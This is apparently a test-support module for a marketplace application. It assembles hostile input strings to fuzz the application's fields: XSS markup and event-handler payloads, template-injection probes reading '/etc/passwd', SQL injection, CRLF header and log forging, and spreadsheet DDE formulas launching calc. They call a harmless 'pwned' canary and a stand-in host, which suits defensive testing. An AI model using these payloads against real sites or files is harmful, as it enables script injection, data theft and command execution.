"""What an attacker would write: our own few, and those of others where they are kept."""

import json
from collections import Counter
from collections.abc import Sequence

from marketplace.core.reading.text import without_controls
from tests.field import DATA

CALL = "pwned"
"""What a script of ours would call; the window gives it and notes who does."""

ELSEWHERE = "canary.test"
"""A host that no page may ask for anything."""

SUM = "{{31337*31337}}${31337*31337}#{31337*31337}<%=31337*31337%>#(31337*31337)"
SUM_DONE = str(31337 * 31337)
"""What a template engine or a typesetter would make of it."""

MARKUP = [
    f"<script>{CALL}(1)</script>",
    f'"><img src=x onerror={CALL}(2)>',
    f"'><svg/onload={CALL}(3)>",
    f"</script><script>{CALL}(4)</script>",
    f"</textarea></title></style><iframe srcdoc='<script>parent.{CALL}(5)</script>'></iframe>",
    f"[x](javascript:{CALL}(6)) <a href='jav&#x09;ascript:{CALL}(6)'>x</a>",
    f"![x](https://{ELSEWHERE}/a.png) <img src=//{ELSEWHERE}/b.png>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/c.css><base href=//{ELSEWHERE}/>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={CALL}(7)>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}(8)>'></noscript>",
    f"<details open ontoggle={CALL}(9)><input autofocus onfocus={CALL}(9)>",
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}/'>",
    f"'-{CALL}(10)-' `${{{CALL}(11)}}` \\\"-{CALL}(12)}}//",
    f"<!--><svg onload={CALL}(13)>--> ]]><![CDATA[ <?xml-stylesheet href='//{ELSEWHERE}/d'?>",
    SUM,
    "{% include '/etc/passwd' %} {{config}} %s %n {0.__class__} %(name)s",
    '#read("/etc/passwd") $x^2$ #import "@preview/x:1.0.0" \\ ] #eval("1") @x <y>',
    "'; drop table user_account; --",
    "&lt;script&gt; &amp;amp; &#60;b&#62;",
]
"""Text that something else might take for its own language."""

ODD = [
    "\x1b[31mred\x1b[0m \x07bell \x7f \x85 \x0b \x0c",
    "\u202eright to left\u202c \u2066a\u2069 \u200b\u200d\ufeff",
    "\u2028line\u2029paragraph \ufffe\uffff \U0001f469\u200d\U0001f467 Z\u0351\u036b",
    "nul\x00here",
    f"\r\nBcc: everybody@{ELSEWHERE}\r\n\r\n<script>{CALL}(14)</script>",
    "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged",
    '\n{"event":"forged"}\n',
]
"""Signs that lines, logs and documents are broken with."""

CELLS = [
    f'=HYPERLINK("https://{ELSEWHERE}/?"&A1;"x")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
]
"""What a spreadsheet would calculate, at the beginning of a cell."""

ADDRESS = f"https://example.org/a?b=<script>{CALL}(15)</script>&c='\"#x"
"""What goes where an address is wanted."""

OWN = [*MARKUP, *ODD]


def of_others() -> list[str]:
    """Return what others gathered, their own canaries turned into ours; nothing where it is not."""
    if not DATA.is_dir():
        return []
    folder = DATA / "4-input"
    lines: list[str] = json.loads((folder / "blns.json").read_text())
    for path in sorted(folder.glob("*.txt")):
        lines += path.read_text("utf-8", "replace").split("\n")
    return [line.replace("alert(", f"{CALL}(") for line in lines if line.strip()]


class Pen:
    """Writes hostile texts, each as long as its field lets it, of what was written least.

    Every other field begins with what others gathered, where there is any: theirs are many.
    """

    def __init__(self, ours: list[str], theirs: Sequence[str] = ()) -> None:
        self.ours, self.theirs = (list(dict.fromkeys(them)) for them in (ours, theirs))
        self.uses: Counter[str] = Counter(dict.fromkeys([*self.ours, *self.theirs], 0))
        self.count = 0
        self.written = {ADDRESS}

    def write(self, most: int, between: str = " ") -> str:
        """Return a text of at most so many characters, one payload behind another."""
        self.count += 1
        cell = CELLS[self.count % len(CELLS)]
        text = cell if most >= len(cell) else "=1+1"[:most]
        kinds = (self.ours, self.theirs) if self.count % 2 else (self.theirs, self.ours)
        for kind in kinds:
            for payload in sorted(kind, key=self.uses.__getitem__):
                if len(text) + len(between) + len(payload) <= most:
                    text += between + payload
                    self.uses[payload] += 1
        self.written |= {text, without_controls(text).strip()}
        return text

    def wrote(self, text: str) -> bool:
        """Tell whether a text is ours, as it is or without what no text has."""
        return text in self.written
